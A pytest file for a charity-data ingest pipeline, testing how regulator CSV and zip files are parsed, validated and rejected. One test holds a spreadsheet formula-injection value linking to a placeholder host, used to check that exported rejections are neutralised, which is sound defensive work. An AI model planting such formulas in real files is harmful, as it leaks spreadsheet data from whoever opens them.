"""Unit tests for ingest: tiny regulator files written to a temporary folder."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from risk_model.domain.vocab import REMOVAL_CATEGORIES
from risk_model.ingest.folder import ingest_folder, read_register_file, read_tables
from risk_model.ingest.parsing import (
    InputFileError,
    normalise_removal_reason,
    normalise_removal_reasons,
    parse_dates,
    parse_multi_valued,
    parse_numbers,
)
from risk_model.ingest.tables import IngestResult, read_ingested, table_fingerprint, write_ingested

ARTS = "The advancement of the arts, heritage, culture or science"
HEALTH = "The advancement of health"
RETURNS_HEADER = ["Charity Number", "Year End", "Date Received", "Total income", "Total expenditure"]


def _csv_text(header: list[str], rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _write(path: Path, header: list[str], rows: list[list[str]], encoding: str = "utf-8") -> Path:
    path.write_bytes(_csv_text(header, rows).encode(encoding))
    return path


def _folder(
    tmp_path: Path,
    register: list[list[str]] | None = None,
    returns: list[list[str]] | None = None,
    case_log: list[list[str]] | None = None,
    former: list[list[str]] | None = None,
    returns_header: list[str] = RETURNS_HEADER,
) -> Path:
    """A data folder with two registered charities and one clean return each, unless overridden."""
    if register is None:
        register = [["SC000001", "Alpha Trust", "01/02/2000"], ["SC000002", "Beta Club", "2001-03-04"]]
    if returns is None:
        returns = [
            ["SC000001", "31/03/2020", "01/10/2020", "1000", "900"],
            ["SC000002", "31/03/2020", "15/11/2020", "2000", "2500"],
        ]
    if case_log is None:
        case_log = [["SC000001", "01/05/2021", "concern_received", ""]]
    _write(tmp_path / "register.csv", ["Charity Number", "Charity Name", "Registered Date"], register)
    _write(tmp_path / "returns.csv", returns_header, returns)
    _write(tmp_path / "case_log.csv", ["Charity Number", "Date", "Event", "Outcome"], case_log)
    if former is not None:
        header = ["Charity Number", "Charity Name", "Registered Date", "Ceased Date", "Reason For Removal"]
        _write(tmp_path / "former.csv", header, former)
    return tmp_path


def _rejections(result: IngestResult, file: str) -> pd.DataFrame:
    return result.rejections[result.rejections["file"].eq(file)].reset_index(drop=True)


def _account(result: IngestResult, file: str) -> pd.Series:
    return result.accounts.set_index("file").loc[file]


# --- values ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["31/03/2020", "31/03/2020 18:58", "31/03/2020 18:58:07", "2020-03-31", "31 March 2020", " 31/03/2020 "],
)
def test_each_date_format_parses_to_midnight(text):
    dates, invalid = parse_dates(pd.Series([text], dtype=str))
    assert dates.dtype == "datetime64[ns]"
    assert dates.iloc[0] == pd.Timestamp("2020-03-31")
    assert not invalid.any()


def test_single_digit_day_month_name_and_blank_date():
    dates, invalid = parse_dates(pd.Series(["1 March 2020", ""], dtype=str))
    assert dates.iloc[0] == pd.Timestamp("2020-03-01")
    assert pd.isna(dates.iloc[1])
    assert invalid.tolist() == [False, False]


def test_impossible_and_garbled_dates_are_invalid():
    dates, invalid = parse_dates(pd.Series(["31/02/2020", "2020-13-01", "soon", "01/01/0001"], dtype=str))
    assert dates.isna().all()
    assert invalid.all()


def test_money_with_pound_sign_and_thousands_commas():
    numbers, invalid = parse_numbers(pd.Series(["£1,234.50", " 12 ", "", "-3", "£ 2,000"], dtype=str))
    assert numbers.iloc[[0, 1, 3, 4]].tolist() == [1234.5, 12.0, -3.0, 2000.0]
    assert np.isnan(numbers.iloc[2])
    assert not invalid.any()


def test_non_numeric_money_is_invalid_but_blank_is_unknown():
    numbers, invalid = parse_numbers(pd.Series(["abc", "12a", "inf", ""], dtype=str))
    assert numbers.isna().all()
    assert invalid.tolist() == [True, True, True, False]


def test_multi_valued_items_keep_their_inner_commas():
    raw = pd.Series([f"'{ARTS}','{HEALTH}'", "", "'Something not in the vocabulary'"], dtype=str)
    parsed = parse_multi_valued(raw)
    assert parsed.tolist() == [[ARTS, HEALTH], [], ["Something not in the vocabulary"]]


# --- removal reasons -------------------------------------------------------------------------

# Spellings found in OSCR's former-charities download of 6 July 2020.
REAL_REASONS = [
    ("This charity has been wound up/dissolved.", "wound_up_dissolved"),
    ("This charity has been dissolved/wound up", "wound_up_dissolved"),
    ("Reason - This charity has been wound up/dissolved.", "wound_up_dissolved"),
    ("This charity has been wound up/dissolved.\u00a0", "wound_up_dissolved"),
    (" This charity has been wound up/dissolved.  ", "wound_up_dissolved"),
    ("This charity has bee wound up/dissolved", "wound_up_dissolved"),
    ("This charity has been wound/up dissolved", "wound_up_dissolved"),
    ("This charity has been dissolve/wound up", "wound_up_dissolved"),
    ("This charity has been closed down/dissolved", "wound_up_dissolved"),
    ("This charity has been removed/dissolved", "wound_up_dissolved"),
    ("This charity has been wound up/removed", "wound_up_dissolved"),
    ("This charity has been wound up/dissolved - RS/C&N/17-0987 refers", "wound_up_dissolved"),
    ("Retro Wind-Up Application received 22/09/2017 with no remaining assets.", "wound_up_dissolved"),
    ("Removed due to dissolution.", "wound_up_dissolved"),
    ("Dissolution of Congregation of the Church of Scotland.", "wound_up_dissolved"),
    (
        "This charity requested removal and was removed from the Scottish Charity Register under "
        "Section 18 of the 2005 Act.",
        "requested_removal_s18",
    ),
    (
        " This charity requested removal and was removed from the Scottish Charity Register under "
        "Section 18 of the 2005 Act.\u201d",
        "requested_removal_s18",
    ),
    (
        "Union of Congregations of the Church of Scotland \u2013 now part of Shetland Church of Scotland "
        "(SC000293).",
        "merger_amalgamation_union",
    ),
    (
        "Unions of ( SC032164, SC010874 and SC030261) - united with ( Pentland Parish (Church of "
        "Scotland)-SC010296)",
        "merger_amalgamation_union",
    ),
    ("RS/C&N/17-1992 - Amalgamation with Abbotsford, Church of Scotland, Clydebank, SC004596.",
     "merger_amalgamation_union"),
    (
        "Morning Call (SC005570) and The Visiting Service of the North of Scotland (SC039555) have "
        "amalgamated and  have passed all their assets and liabilities to Morning Call (SC049015)",
        "merger_amalgamation_union",
    ),
    (
        "Kinnoull Tennis Club SC045289 has now wound up and transferred its assets to Kinnoull Tennis "
        "Club SCIO SC047283 which is a SCIO.",
        "scio_conversion_reregistration",
    ),
    (
        "North Berwick Trust (SC000135) has now wound up and transferred its assets to The North "
        "Berwick Trust Ltd (SC048462) which is a Charitable Company.",
        "scio_conversion_reregistration",
    ),
    (
        "Missionary Sisters Of Verona (SC038743) has now wound up and transferred its assets to "
        "Comboni Missionary Sisters CIO (SC048759) which is a CIO.",
        "scio_conversion_reregistration",
    ),
    ("Incorp Wind Up RS/C&N/18-0218 refers", "scio_conversion_reregistration"),
    ("Notes changed to reflect incorporation process.", "scio_conversion_reregistration"),
    ("Updated SCIO note for register entry", "scio_conversion_reregistration"),
    ("Update note", "other"),
    ("PC changed as per application RS/CN/17-1270", "other"),
    ("as per online reg form", "other"),
    ("Per accounts", "other"),
    ("", "not_recorded"),
    ("   ", "not_recorded"),
    ("*", "not_recorded"),
]


@pytest.mark.parametrize(("text", "category"), REAL_REASONS)
def test_removal_reason_spellings_map_to_their_category(text, category):
    assert normalise_removal_reason(text) == category


def test_vectorised_removal_reasons_agree_with_the_scalar_version():
    texts = pd.Series([t for t, _ in REAL_REASONS] + [None], dtype=object)
    categories = normalise_removal_reasons(texts)
    assert categories.tolist() == [c for _, c in REAL_REASONS] + ["not_recorded"]
    assert set(categories) <= set(REMOVAL_CATEGORIES)


def test_a_charity_named_union_is_not_taken_for_a_merger():
    assert normalise_removal_reason("Students Union Fund has been wound up/dissolved") == "wound_up_dissolved"


# --- whole folder ----------------------------------------------------------------------------


def test_clean_folder_is_accepted_whole_with_canonical_dtypes(tmp_path):
    result = ingest_folder(_folder(tmp_path))
    assert result.rejections.empty
    assert result.register["charity_number"].tolist() == ["SC000001", "SC000002"]
    assert result.register["registered_date"].tolist() == [pd.Timestamp("2000-02-01"), pd.Timestamp("2001-03-04")]
    assert result.register["ceased_date"].isna().all()
    assert result.register["source_row"].tolist() == [1, 2]
    assert result.returns["year_end"].dtype == "datetime64[ns]"
    assert result.returns["income_gbp"].dtype == "float64"
    assert result.returns["employees"].isna().all()  # optional column absent: unknown, not zero
    assert pd.isna(result.case_log.loc[0, "outcome"])


def test_every_file_balances_rows_read_against_accepted_and_rejected(tmp_path):
    returns = [
        ["SC000001", "31/03/2020", "01/10/2020", "1000", "900"],
        ["SC000001", "31/03/2021", "01/10/2021", "-5", "x"],
        ["SC000002", "31/03/2020", "31/02/2021", "1", "1"],
    ]
    result = ingest_folder(_folder(tmp_path, returns=returns))
    accounts = result.accounts.set_index("file")
    assert (accounts["rows_read"] == accounts["accepted"] + accounts["rejected"]).all()
    assert accounts.loc["returns.csv", ["rows_read", "accepted", "rejected"]].tolist() == [3, 1, 2]
    assert len(result.returns) == 1


def test_impossible_date_is_rejected_with_file_row_and_field(tmp_path):
    returns = [
        ["SC000001", "31/03/2020", "01/10/2020", "1000", "900"],
        ["SC000002", "31/02/2020", "15/11/2020", "2000", "2500"],
    ]
    rejected = _rejections(ingest_folder(_folder(tmp_path, returns=returns)), "returns.csv")
    assert rejected[["row", "line", "field", "value"]].values.tolist() == [[2, 3, "Year End", "31/02/2020"]]
    assert "not a valid date" in rejected.loc[0, "reason"]


def test_money_with_pound_and_commas_read_from_file(tmp_path):
    returns = [["SC000001", "31/03/2020", "01/10/2020", "£1,234,567", "£ 1,000.50"]]
    result = ingest_folder(_folder(tmp_path, returns=returns))
    assert result.returns[["income_gbp", "expenditure_gbp"]].values.tolist() == [[1234567.0, 1000.5]]


def test_negative_total_rejected_but_negative_breakdown_kept(tmp_path):
    header = RETURNS_HEADER + ["Other income", "Investments income"]
    returns = [
        ["SC000001", "31/03/2020", "01/10/2020", "-10", "900", "", ""],
        ["SC000002", "31/03/2020", "15/11/2020", "2000", "2500", "-40", "-1,200"],
    ]
    result = ingest_folder(_folder(tmp_path, returns=returns, returns_header=header))
    rejected = _rejections(result, "returns.csv")
    assert rejected[["row", "field", "reason"]].values.tolist() == [[1, "Total income", "a total cannot be negative"]]
    kept = result.returns.set_index("charity_number").loc["SC000002"]
    assert (kept["other_income_gbp"], kept["investments_income_gbp"]) == (-40.0, -1200.0)


def test_non_numeric_money_rejected(tmp_path):
    returns = [["SC000001", "31/03/2020", "01/10/2020", "about 1000", "900"]]
    rejected = _rejections(ingest_folder(_folder(tmp_path, returns=returns)), "returns.csv")
    assert rejected[["field", "value", "reason"]].values.tolist() == [["Total income", "about 1000", "not a number"]]


@pytest.mark.parametrize(
    ("value", "reason"), [("-1", "cannot be negative"), ("2.5", "whole number"), ("many", "not a number")]
)
def test_invalid_counts_rejected(tmp_path, value, reason):
    header = RETURNS_HEADER + ["Employees"]
    returns = [["SC000001", "31/03/2020", "01/10/2020", "10", "9", value]]
    rejected = _rejections(ingest_folder(_folder(tmp_path, returns=returns, returns_header=header)), "returns.csv")
    assert rejected["field"].tolist() == ["Employees"]
    assert reason in rejected.loc[0, "reason"]


def test_multi_valued_register_column_read_from_file(tmp_path):
    header = ["Charity Number", "Charity Name", "Registered Date", "Purposes"]
    _write(tmp_path / "reg.csv", header, [["SC000001", "Alpha", "01/02/2000", f"'{ARTS}','{HEALTH}'"]])
    register, rejections, _ = read_register_file(tmp_path / "reg.csv")
    assert register.loc[0, "purposes"] == [ARTS, HEALTH]
    assert register.loc[0, "beneficiaries"] == []
    assert rejections.empty


def test_missing_required_column_names_file_and_column(tmp_path):
    header = ["Charity Number", "Year End", "Total income", "Total expenditure"]
    folder = _folder(tmp_path, returns=[["SC000001", "31/03/2020", "1", "1"]], returns_header=header)
    with pytest.raises(InputFileError, match=r"returns\.csv.*Date Received"):
        ingest_folder(folder)


def test_input_file_error_is_a_value_error():
    assert issubclass(InputFileError, ValueError)


def test_missing_required_file_is_named(tmp_path):
    (_folder(tmp_path) / "case_log.csv").unlink()
    with pytest.raises(InputFileError, match="case_log"):
        ingest_folder(tmp_path)


def test_empty_file_is_named(tmp_path):
    (_folder(tmp_path) / "returns.csv").write_bytes(b"")
    with pytest.raises(InputFileError, match=r"returns\.csv is empty"):
        ingest_folder(tmp_path)


def test_header_only_case_log_is_accepted_and_noted(tmp_path):
    folder = _folder(tmp_path, case_log=[])
    result = ingest_folder(folder)
    assert result.case_log.empty
    assert "no data rows" in _account(result, "case_log.csv")["notes"]


def test_extra_column_is_noted_not_an_error(tmp_path):
    header = RETURNS_HEADER + ["Auditor"]
    returns = [["SC000001", "31/03/2020", "01/10/2020", "10", "9", "Smith & Co"]]
    result = ingest_folder(_folder(tmp_path, returns=returns, returns_header=header))
    assert "extra columns ignored: Auditor" in _account(result, "returns.csv")["notes"]
    assert len(result.returns) == 1


def test_other_files_in_the_folder_are_ignored(tmp_path):
    folder = _folder(tmp_path)
    (folder / "latent_risk.csv").write_text("Charity Number,Year,Misconduct probability,Misconduct\n")
    result = ingest_folder(folder)
    assert "latent_risk.csv" not in set(result.accounts["file"])


def test_cp1252_file_is_read_and_its_encoding_recorded(tmp_path):
    folder = _folder(tmp_path)
    register = [["SC000001", "Café £ Fund", "01/02/2000"], ["SC000002", "Beta", "01/02/2000"]]
    _write(folder / "register.csv", ["Charity Number", "Charity Name", "Registered Date"], register, "cp1252")
    result = ingest_folder(folder)
    assert result.register.loc[0, "charity_name"] == "Café £ Fund"
    assert _account(result, "register.csv")["encoding"] == "cp1252"
    assert _account(result, "returns.csv")["encoding"] == "utf-8"


def test_utf8_byte_order_mark_does_not_spoil_the_first_header(tmp_path):
    folder = _folder(tmp_path)
    text = _csv_text(["Charity Number", "Charity Name", "Registered Date"], [["SC000001", "Alpha", "01/02/2000"]])
    (folder / "register.csv").write_bytes(text.encode("utf-8-sig"))
    register, _, account = read_register_file(folder / "register.csv")
    assert register["charity_number"].tolist() == ["SC000001"]
    assert account["encoding"] == "utf-8"


def _zip(path: Path, member: str, text: str) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(member, text)
    return path


def test_zip_is_read_in_place_under_oscr_names(tmp_path):
    folder = _folder(tmp_path)
    header = ["Charity Number", "Charity Name", "Registered Date"]
    (folder / "register.csv").unlink()
    _zip(folder / "CharityExport-06-Jul-2020.zip", "CharityExport-06-Jul-2020.csv",
         _csv_text(header, [["SC000001", "Alpha", "01/02/2000 10:00"], ["SC000002", "Beta", "01/02/2000"]]))
    former_header = header + ["Ceased Date", "Reason For Removal"]
    _zip(folder / "CharityExport-Removed-06-Jul-2020.zip", "CharityExport-Removed-06-Jul-2020.csv",
         _csv_text(former_header, [["SC000003", "Gone", "01/02/1990", "02/06/2012 18:58", "Update note"]]))
    result = ingest_folder(folder)
    assert result.register["charity_number"].tolist() == ["SC000001", "SC000002", "SC000003"]
    assert result.register["removal_category"].tolist()[-1] == "other"
    assert {"CharityExport-06-Jul-2020.zip", "CharityExport-Removed-06-Jul-2020.zip"} <= set(result.accounts["file"])
    assert not list(folder.glob("CharityExport*.csv"))  # nothing extracted beside the zips


def test_truncated_zip_is_a_clear_error_naming_the_file(tmp_path):
    header = ["Charity Number", "Charity Name", "Registered Date"]
    rows = [[f"SC{i:06d}", f"Charity {i}", "01/02/2000"] for i in range(1, 2000)]
    whole = _zip(tmp_path / "whole.zip", "register.csv", _csv_text(header, rows)).read_bytes()
    cut = tmp_path / "register.zip"
    cut.write_bytes(whole[: len(whole) // 2])
    with pytest.raises(InputFileError, match=r"register\.zip"):
        read_register_file(cut)


def test_corrupt_zip_content_is_a_clear_error_naming_the_file(tmp_path):
    header = ["Charity Number", "Charity Name", "Registered Date"]
    rows = [[f"SC{i:06d}", f"Charity {i}", "01/02/2000"] for i in range(1, 2000)]
    data = bytearray(_zip(tmp_path / "register.zip", "register.csv", _csv_text(header, rows)).read_bytes())
    middle = len(data) // 2
    data[middle:middle + 64] = bytes(64)  # the central directory survives; the compressed data does not
    (tmp_path / "register.zip").write_bytes(bytes(data))
    with pytest.raises(InputFileError, match=r"register\.zip"):
        read_register_file(tmp_path / "register.zip")


def test_two_candidate_register_files_are_refused(tmp_path):
    folder = _folder(tmp_path)
    _write(folder / "CharityExport-06-Jul-2020.csv", ["Charity Number", "Charity Name", "Registered Date"], [])
    with pytest.raises(InputFileError, match="more than one register file"):
        ingest_folder(folder)


def test_row_longer_than_the_header_is_refused_not_misread(tmp_path):
    (tmp_path / "register.csv").write_text("Charity Number,Charity Name,Registered Date\nSC000001,A,01/02/2000,extra\n")
    with pytest.raises(InputFileError, match=r"register\.csv.*more fields"):
        read_register_file(tmp_path / "register.csv")


def test_duplicate_charity_in_register_rejects_the_later_row(tmp_path):
    register = [["SC000001", "Alpha", "01/02/2000"], ["SC000002", "Beta", "01/02/2000"],
                ["sc000001 ", "Alpha again", "01/02/2000"]]
    result = ingest_folder(_folder(tmp_path, register=register))
    rejected = _rejections(result, "register.csv")
    assert rejected[["row", "field"]].values.tolist() == [[3, "Charity Number"]]
    assert "duplicate of row 1" in rejected.loc[0, "reason"]
    assert result.register["charity_name"].tolist() == ["Alpha", "Beta"]


def test_charity_on_register_and_former_keeps_the_register_row(tmp_path):
    former = [["SC000002", "Beta (old)", "01/01/1990", "01/01/2000", "This charity has been wound up/dissolved."],
              ["SC000003", "Gamma", "01/01/1990", "01/01/2005", ""]]
    result = ingest_folder(_folder(tmp_path, former=former))
    rejected = _rejections(result, "former.csv")
    assert rejected["row"].tolist() == [1]
    assert "register.csv row 2" in rejected.loc[0, "reason"]
    register = result.register.set_index("charity_number")
    assert register.loc["SC000002", "charity_name"] == "Beta Club"
    assert register.loc["SC000003", "removal_category"] == "not_recorded"
    assert register.loc["SC000003", "ceased_date"] == pd.Timestamp("2005-01-01")


def test_duplicate_return_for_the_same_year_end_rejects_the_later(tmp_path):
    returns = [
        ["SC000001", "31/03/2020", "01/10/2020", "1000", "900"],
        ["SC000002", "31/03/2020", "15/11/2020", "2000", "2500"],
        ["SC000001", "2020-03-31", "02/10/2020", "1001", "901"],
    ]
    result = ingest_folder(_folder(tmp_path, returns=returns))
    rejected = _rejections(result, "returns.csv")
    assert rejected["row"].tolist() == [3]
    assert "duplicate of row 1" in rejected.loc[0, "reason"]
    assert result.returns["income_gbp"].tolist() == [1000.0, 2000.0]


def test_date_received_before_year_end_rejected(tmp_path):
    returns = [["SC000001", "31/03/2020", "01/03/2020", "1000", "900"]]
    rejected = _rejections(ingest_folder(_folder(tmp_path, returns=returns)), "returns.csv")
    assert rejected[["field", "reason"]].values.tolist() == [["Date Received", "Date Received is before Year End"]]


def test_blank_date_received_is_an_outstanding_return_not_an_error(tmp_path):
    returns = [["SC000001", "31/03/2020", "", "1000", "900"]]
    result = ingest_folder(_folder(tmp_path, returns=returns))
    assert result.rejections.empty
    assert pd.isna(result.returns.loc[0, "date_received"])


def test_date_received_absurdly_late_rejected(tmp_path):
    returns = [["SC000001", "31/03/2000", "01/04/2015", "1000", "900"]]
    rejected = _rejections(ingest_folder(_folder(tmp_path, returns=returns)), "returns.csv")
    assert rejected["field"].tolist() == ["Date Received"]
    assert "days after Year End" in rejected.loc[0, "reason"]


def test_unknown_charity_in_returns_and_case_log_rejected(tmp_path):
    returns = [["SC000001", "31/03/2020", "01/10/2020", "1", "1"], ["SC999999", "31/03/2020", "01/10/2020", "1", "1"]]
    case_log = [["SC999999", "01/05/2021", "concern_received", ""]]
    result = ingest_folder(_folder(tmp_path, returns=returns, case_log=case_log))
    for file in ("returns.csv", "case_log.csv"):
        rejected = _rejections(result, file)
        assert rejected["value"].tolist() == ["SC999999"]
        assert "neither the register nor the former" in rejected.loc[0, "reason"]


def test_a_row_with_several_failures_lists_every_reason(tmp_path):
    returns = [["SC000001", "31/03/2020", "01/10/2020", "-1", "lots"]]
    result = ingest_folder(_folder(tmp_path, returns=returns))
    rejected = _rejections(result, "returns.csv")
    assert set(rejected["field"]) == {"Total income", "Total expenditure"}
    assert _account(result, "returns.csv")["rejected"] == 1


def test_charity_numbers_are_normalised_and_checked_against_the_pattern(tmp_path):
    register = [
        [" sc000001", "Alpha", "01/02/2000"], ["SC12", "Short", "01/02/2000"], ["SC000002", "Beta", "01/02/2000"],
    ]
    result = ingest_folder(_folder(tmp_path, register=register))
    assert result.register["charity_number"].tolist() == ["SC000001", "SC000002"]
    assert _rejections(result, "register.csv")[["row", "value"]].values.tolist() == [[2, "SC12"]]


def test_charity_number_pattern_is_configurable(tmp_path):
    register = [["NI100001", "Alpha", "01/02/2000"]]
    returns = [["NI100001", "31/03/2020", "01/10/2020", "1", "1"]]
    folder = _folder(tmp_path, register=register, returns=returns, case_log=[])
    result = ingest_folder(folder, charity_number_pattern=r"NI\d{6}")
    assert result.rejections.empty
    assert len(result.returns) == 1


def test_case_log_events_are_checked_and_rows_sorted(tmp_path):
    case_log = [
        ["SC000002", "01/05/2021", "inquiry_opened", ""],
        ["SC000001", "01/09/2021", "Inquiry closed", "Regulatory action"],
        ["SC000001", "01/05/2021", "concern_received", ""],
        ["SC000001", "01/06/2021", "complaint", ""],
    ]
    result = ingest_folder(_folder(tmp_path, case_log=case_log))
    assert result.case_log[["charity_number", "event"]].values.tolist() == [
        ["SC000001", "concern_received"], ["SC000001", "inquiry_closed"], ["SC000002", "inquiry_opened"],
    ]
    assert result.case_log.loc[1, "outcome"] == "regulatory_action"
    assert _rejections(result, "case_log.csv")[["row", "field"]].values.tolist() == [[4, "Event"]]


def test_line_numbers_follow_quoted_line_breaks(tmp_path):
    register = [["SC000001", "Alpha\nTrust", "01/02/2000"], ["SC000002", "Beta", "31/13/2000"]]
    result = ingest_folder(_folder(tmp_path, register=register))
    rejected = _rejections(result, "register.csv")
    assert rejected[["row", "line"]].values.tolist() == [[2, 4]]


def test_write_then_read_gives_back_the_same_tables(tmp_path):
    former = [["SC000003", "Gamma", "01/01/1990", "01/01/2005", "Update note"]]
    header = ["Charity Number", "Charity Name", "Registered Date", "Purposes"]
    folder = _folder(tmp_path, former=former, returns=[["SC000001", "31/03/2020", "1/1/2020", "1", "1"]])
    _write(folder / "register.csv", header,
           [["SC000001", "Alpha", "01/02/2000", f"'{ARTS}'"], ["SC000002", "Beta", "01/02/2000", ""]])
    result = ingest_folder(folder)
    assert len(result.rejections) == 1  # so the rejections report round-trips with content
    paths = write_ingested(result, tmp_path / "out")
    assert set(paths) == {"register", "returns", "case_log", "rejections", "accounts"}
    again = read_ingested(tmp_path / "out")
    for name in ("register", "returns", "case_log", "rejections", "accounts"):
        pd.testing.assert_frame_equal(getattr(again, name), getattr(result, name))
        assert table_fingerprint(getattr(again, name)) == table_fingerprint(getattr(result, name))
    assert again.register.loc[0, "purposes"] == [ARTS]


def test_a_rejected_formula_is_written_safe_to_open_and_read_back_as_it_came(tmp_path):
    formula = '=HYPERLINK("http://x.example/?"&A1,"Click for details")'
    folder = _folder(tmp_path, returns=[["SC000001", "31/03/2020", "1/1/2021", formula, "1"]])
    result = ingest_folder(folder)
    assert formula in result.rejections["value"].tolist()
    write_ingested(result, tmp_path / "out")
    cells = pd.read_csv(tmp_path / "out" / "rejections.csv", dtype=str, keep_default_na=False).to_numpy().ravel()
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    pd.testing.assert_frame_equal(read_ingested(tmp_path / "out").rejections, result.rejections)


def test_fingerprint_ignores_column_order_but_sees_a_changed_value(tmp_path):
    register = ingest_folder(_folder(tmp_path)).register
    assert table_fingerprint(register) == table_fingerprint(register[register.columns[::-1]])
    changed = register.assign(purposes=[["x"], []])
    assert table_fingerprint(changed) != table_fingerprint(register)
    renamed = register.assign(charity_name=register["charity_name"].str.upper())
    assert table_fingerprint(renamed) != table_fingerprint(register)


def test_ingest_does_not_touch_the_data_folder(tmp_path):
    folder = _folder(tmp_path)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    ingest_folder(folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_read_tables_takes_raw_files_or_the_tables_ingest_wrote_alike(small_world_dir, small_world, tmp_path):
    written = tmp_path / "ingested"
    write_ingested(small_world, written)
    for folder in (small_world_dir, written):
        tables = read_tables(folder)
        for name in ("register", "returns", "case_log", "accounts"):
            pd.testing.assert_frame_equal(getattr(tables, name).reset_index(drop=True),
                                          getattr(small_world, name).reset_index(drop=True), check_dtype=False)
    with pytest.raises(InputFileError, match="not found"):
        read_tables(tmp_path / "nowhere")
